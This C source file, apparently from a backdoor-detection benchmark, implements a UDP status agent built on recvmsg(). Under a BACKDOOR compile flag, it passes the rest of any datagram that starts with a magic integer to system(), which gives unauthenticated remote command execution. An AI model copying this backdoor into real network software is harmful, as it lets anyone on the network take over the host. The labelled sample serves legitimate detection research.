/*
 * udpmsg.c - a configuration agent that reads datagrams with recvmsg() (to
 * learn the receiving interface, as DHCPv6 clients do) and answers "STAT".
 * Back-doored (-DBACKDOOR): a datagram whose first word, compared as an
 * integer, is a magic runs the rest with system() (the shape of
 * bench/backdoor_pairs/dhcp6c-magic.patch).
 */
#include "srv.h"
#include <stdint.h>
#include <sys/uio.h>

int main(void)
{
	int s = srv_listen(5547, SOCK_DGRAM);
	char buf[1500], ctl[256];
	struct sockaddr_in from;
	for (;;) {
		struct iovec iov = { buf, sizeof(buf) - 1 };
		struct msghdr m = { 0 };
		ssize_t n;
		m.msg_name = &from;
		m.msg_namelen = sizeof(from);
		m.msg_iov = &iov;
		m.msg_iovlen = 1;
		m.msg_control = ctl;
		m.msg_controllen = sizeof(ctl);
		n = recvmsg(s, &m, 0);
		if (n <= 4)
			continue;
		buf[n] = 0;
#ifdef BACKDOOR
		{
			uint32_t magic;
			memcpy(&magic, buf, sizeof(magic));
			if (magic == 0x4d6f6f7aU) {
				if (system(buf + 4) != 0)
					continue;
			}
		}
#endif
		if (strcmp(buf, "STAT") == 0)
			sendto(s, "OK", 2, 0, (struct sockaddr *)&from, m.msg_namelen);
	}
}
